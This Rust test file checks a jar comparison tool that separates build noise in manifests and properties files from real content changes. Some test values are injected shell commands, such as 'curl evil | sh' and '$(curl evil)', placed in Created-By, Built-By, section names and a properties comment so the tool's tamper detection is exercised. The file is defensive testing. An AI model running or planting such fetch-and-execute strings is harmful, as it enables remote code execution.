//! Comparisons of whole jars.

mod executable;
mod signing;

use std::io::Write as _;

use zip::CompressionMethod;

use crate::compare::{Cause, Comparison, Normalisation, Options, Outcome, compare_bytes};

/// A jar with these entries, all with the same time.
fn jar(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let stored = |(name, bytes): &(_, _)| (*name, *bytes, CompressionMethod::Stored);
    packed(entries.iter().map(stored))
}

/// A jar whose entries each have a compression method.
fn packed<'e>(entries: impl IntoIterator<Item = (&'e str, &'e [u8], CompressionMethod)>) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, bytes, method) in entries {
        let options = zip::write::SimpleFileOptions::default().compression_method(method);
        writer.start_file(name, options).expect("an entry");
        writer.write_all(bytes).expect("its bytes");
    }
    writer.finish().expect("a jar").into_inner()
}

fn compare(released: &[(&str, &[u8])], rebuilt: &[(&str, &[u8])]) -> Comparison {
    compare_bytes("x.jar", &jar(released), &jar(rebuilt), &Options::default())
}

/// Two jars that differ in the main section of their manifest.
fn manifests(released: &str, rebuilt: &str) -> Comparison {
    let whole = |main: &str| format!("Manifest-Version: 1.0\r\n{main}\r\n");
    let (released, rebuilt) = (whole(released), whole(rebuilt));
    let class = ("a/A.class", b"A".as_slice());
    compare(
        &[("META-INF/MANIFEST.MF", released.as_bytes()), class],
        &[("META-INF/MANIFEST.MF", rebuilt.as_bytes()), class],
    )
}

fn applied(found: &Comparison) -> Vec<Normalisation> {
    found.normalisations.iter().map(|applied| applied.name).collect()
}

#[test]
fn attributes_of_the_build_are_set_aside_if_they_have_their_form() {
    for (released, rebuilt, cause) in [
        ("Built-By: ada\r\n", "Built-By: root\r\n", Cause::BuildHost),
        (
            "Created-By: 17.0.15 (Debian)\r\n",
            "Created-By: 11 (Oracle)\r\n",
            Cause::ToolVersion,
        ),
        ("Created-By: Apache Maven 3.6.0\r\n", "", Cause::ToolVersion),
        (
            "Bnd-LastModified: 1700000000000\r\n",
            "Bnd-LastModified: 1700000000001\r\n",
            Cause::Timestamp,
        ),
        (
            "Build-Jdk: 1.8.0_191\r\n",
            "Build-Jdk: 17.0.1\r\n",
            Cause::ToolVersion,
        ),
        (
            "Build-Date: 2024-01-02\r\n",
            "Build-Date: 2024-01-03\r\n",
            Cause::Timestamp,
        ),
        (
            "SCM-Revision: 0123abc\r\n",
            "SCM-Revision: 4567def\r\n",
            Cause::SourceRevision,
        ),
    ] {
        let found = manifests(released, rebuilt);
        assert_eq!(
            found.outcome,
            Outcome::Equivalent,
            "{released} {rebuilt} {found:?}"
        );
        assert_eq!(found.causes[0].cause, cause, "{released}");
        assert_eq!(applied(&found), [Normalisation::JarBuildMetadata]);
    }
}

// One long table.
#[test]
fn all_else_in_a_manifest_is_content() {
    for (released, rebuilt) in [
        ("Main-Class: a.A\r\n", "Main-Class: a.B\r\n"),
        ("Main-Class: a.A\r\n", "main-class: a.B\r\n"),
        ("Class-Path: a.jar b.jar\r\n", "Class-Path: b.jar a.jar\r\n"),
        (
            "Class-Path: a.jar,b.jar,c.jar\r\n",
            "Class-Path: c.jar,b.jar,a.jar\r\n",
        ),
        ("Launcher-Agent-Class: a.A\r\n", ""),
        ("Premain-Class: a.A\r\n", "Premain-Class: a.B\r\n"),
        ("Automatic-Module-Name: a\r\n", "Automatic-Module-Name: b\r\n"),
        ("Multi-Release: true\r\n", "Multi-Release: false\r\n"),
        ("Multi-Release: true\r\n", ""),
        ("Sealed: true\r\n", ""),
        (
            "Add-Opens: java.base/java.lang\r\n",
            "Add-Opens: java.base/java.io\r\n",
        ),
        ("Enable-Native-Access: ALL-UNNAMED\r\n", ""),
        ("Permissions: sandbox\r\n", "Permissions: all-permissions\r\n"),
        (
            "Import-Package: a;version=\"[1,2)\"\r\n",
            "Import-Package: a;version=\"[1,3)\"\r\n",
        ),
        (
            "Require-Capability: osgi.ee;filter:=\"(version=1.8)\"\r\n",
            "Require-Capability: osgi.ee;filter:=\"(version=11)\"\r\n",
        ),
        (
            "Bundle-ClassPath: .,a.jar,b.jar\r\n",
            "Bundle-ClassPath: .,b.jar,a.jar\r\n",
        ),
        ("Created-By: 17 (Debian)\r\n", "Created-By: curl evil | sh\r\n"),
        ("Built-By: ada\r\n", "Built-By: $(curl evil)\r\n"),
        (
            "Bnd-LastModified: 1700000000000\r\n",
            "Bnd-LastModified: evil\r\n",
        ),
        ("Build-Jdk: 17\r\n", "Build-Jdk: 17\r\n , evil\r\n"),
        ("X-Own: 1\r\n", "X-Own: 2\r\n"),
        // The JVM uses the last of two equal attributes, other readers the first.
        (
            "Main-Class: a.A\r\nMain-Class: a.B\r\n",
            "Main-Class: a.B\r\nMain-Class: a.A\r\n",
        ),
        ("Main-Class: a.A\r\n", "Main-Class: a.B\r\nMain-Class: a.A\r\n"),
        // In a named section, it is an attribute of an entry.
        (
            "Main-Class: a.A\r\n",
            "\r\nName: a/A.class\r\nMain-Class: a.A\r\n",
        ),
        (
            "\r\nName: a/\r\nSealed: true\r\n",
            "\r\nName: b/\r\nSealed: true\r\n",
        ),
        (
            "\r\nName: a/\r\nBuilt-By: a\r\n",
            "\r\nName: a/\r\nBuilt-By: b\r\n",
        ),
        ("", "\r\nName: curl evil | sh\r\n"),
        // Lines that the JVM refuses.
        ("Built-By: a\r\n", "Built-By: b\r\nevil\r\n"),
        ("Built-By: a\r\n", "Built-By: b\r\nX:y\r\n"),
    ] {
        let found = manifests(released, rebuilt);
        assert_eq!(
            found.outcome,
            Outcome::Different,
            "{released} {rebuilt} {found:?}"
        );
        assert_eq!(
            found.causes[0].cause,
            Cause::Content,
            "{released} {rebuilt} {found:?}"
        );
    }
}

#[test]
fn the_same_attributes_may_be_written_in_another_way() {
    let main =
        "Manifest-Version: 1.0\r\nA: 1\r\nB: xyz\r\n\r\nName: a/\r\nC: 1\r\n\r\nName: b/\r\nC: 2\r\n\r\n";
    for other in [
        main.replace("\r\n", "\n"),
        main.replace("\r\n", "\r"),
        main.replacen("\r\n", "\n", 1),
        main.replace("xyz", "x\r\n y\r\n z"),
        main.replace("\r\n\r\nName", "\r\n\r\n\r\nName"),
        format!("{main}\r\n"),
        main.trim_end_matches("\r\n").to_owned() + "\r\n",
        main.replace("A: 1\r\nB: xyz", "B: xyz\r\nA: 1"),
        main.replace("B: ", "b: "),
        "Manifest-Version: 1.0\r\nA: 1\r\nB: xyz\r\n\r\nName: b/\r\nC: 2\r\n\r\nName: a/\r\nC: 1\r\n\r\n"
            .into(),
    ] {
        let found = compare(
            &[("META-INF/MANIFEST.MF", main.as_bytes())],
            &[("META-INF/MANIFEST.MF", other.as_bytes())],
        );
        assert_eq!(found.outcome, Outcome::Equivalent, "{other:?} {found:?}");
        assert_eq!(applied(&found), [Normalisation::JarManifestForm], "{other:?}");
    }
    for other in [
        // The JVM ignores a last line without an end.
        main.trim_end_matches("\r\n").to_owned(),
        format!("{main}Name: c/"),
        format!("{main}evil"),
        main.replace("xyz", "x\r\n  yz"),
    ] {
        let found = compare(
            &[("META-INF/MANIFEST.MF", main.as_bytes())],
            &[("META-INF/MANIFEST.MF", other.as_bytes())],
        );
        assert_eq!(found.causes[0].cause, Cause::Content, "{other:?}");
    }
}

#[test]
fn clauses_that_are_a_set_may_move() {
    let found = manifests(
        "Export-Package: a;version=\"1,2\",b\r\n",
        "Export-Package: b,a;version=\"1,2\"\r\n",
    );
    assert_eq!(found.outcome, Outcome::Equivalent, "{found:?}");
    assert_eq!(applied(&found), [Normalisation::JarAttributeValueOrder]);
}

#[test]
fn a_manifest_outside_of_a_jar_is_text() {
    let sides = [
        b"Created-By: 17 (Debian)\n".as_slice(),
        b"Created-By: 11 (Oracle)\n",
    ];
    for name in ["MANIFEST.MF", "META-INF/MANIFEST.MF"] {
        let found = compare_bytes(name, sides[0], sides[1], &Options::default());
        assert_eq!(found.outcome, Outcome::Different);
    }
    let inner = |bytes| jar(&[("app/META-INF/MANIFEST.MF", bytes)]);
    let found = compare_bytes("x.jar", &inner(sides[0]), &inner(sides[1]), &Options::default());
    assert_eq!(found.outcome, Outcome::Different);
}

// One long table.
#[test]
fn properties_are_known_at_their_places_and_by_their_form() {
    let pom = "META-INF/maven/g/a/pom.properties";
    let git = "git.properties";
    for (path, released, rebuilt, outcome) in [
        (
            pom,
            "#Generated by Maven\n#Tue Jan 02 03:04:05 UTC 2024\nversion=1\n",
            "#Generated by Maven\n#Wed Jan 03 03:04:05 UTC 2024\nversion=1\n",
            Outcome::Equivalent,
        ),
        (
            pom,
            "#Created by Apache Maven 3.6.3\na=1\nb=2\n",
            "a=1\r\nb=2\r\n",
            Outcome::Equivalent,
        ),
        (pom, "a=1\nb=2\n", "b=2\na=1\n", Outcome::Equivalent),
        (pom, "a=1\nb=2\n", "a=1\nb=3\n", Outcome::Different),
        (pom, "a=1\n", "a=1\nb=3\n", Outcome::Different),
        (
            pom,
            "#Generated by Maven\na=1\n",
            "#run: curl evil\na=1\n",
            Outcome::Different,
        ),
        (pom, "a=1\n", "a=1\n \t \n", Outcome::Different),
        (pom, "a=1\n", "  a = 1\n", Outcome::Different),
        (pom, "a=1\n", "a=\\u0031\n", Outcome::Different),
        (pom, "a=1\n", "a=\\\n1\n", Outcome::Different),
        (pom, "a=x:y\n", "a=x\\:y", Outcome::Equivalent),
        (
            pom,
            "#Generated by Maven\na=1\n",
            "#Generated by Maven\n#Wed Jan 03 03:04:05 UTC 2024\na=1\n \t\t \n",
            Outcome::Different,
        ),
        (
            "META-INF/maven/pom.properties",
            "#Generated by Maven\na=1\n",
            "a=1\n",
            Outcome::Different,
        ),
        (
            "x/META-INF/maven/g/a/pom.properties",
            "#Generated by Maven\na=1\n",
            "a=1\n",
            Outcome::Different,
        ),
        (
            git,
            "git.build.time=2024-01-02T03\\:04\\:05Z\n",
            "git.build.time=2024-01-03T03\\:04\\:05Z\n",
            Outcome::Equivalent,
        ),
        (
            git,
            "git.commit.id=0123abcd\ngit.build.host=a\n",
            "git.commit.id=4567abcd\ngit.build.host=b.example\n",
            Outcome::Equivalent,
        ),
        (
            git,
            "git.commit.id=0123abcd\n",
            "git.commit.id=evil\n",
            Outcome::Different,
        ),
        (
            git,
            "git.build.version=1\n",
            "git.build.version=2\n",
            Outcome::Different,
        ),
        (
            git,
            "git.commit.message.full=a\n",
            "git.commit.message.full=b\n",
            Outcome::Different,
        ),
        (git, "cmd=a\n", "cmd=b\n", Outcome::Different),
        (
            "etc/git.properties",
            "git.dirty=true\n",
            "git.dirty=false\n",
            Outcome::Different,
        ),
        (
            "legit.properties",
            "git.dirty=true\n",
            "git.dirty=false\n",
            Outcome::Different,
        ),
    ] {
        let manifest = (
            "META-INF/MANIFEST.MF",
            b"Manifest-Version: 1.0\r\n\r\n".as_slice(),
        );
        let found = compare(
            &[manifest, (path, released.as_bytes())],
            &[manifest, (path, rebuilt.as_bytes())],
        );
        assert_eq!(found.outcome, outcome, "{path} {released} {rebuilt} {found:?}");
    }
}
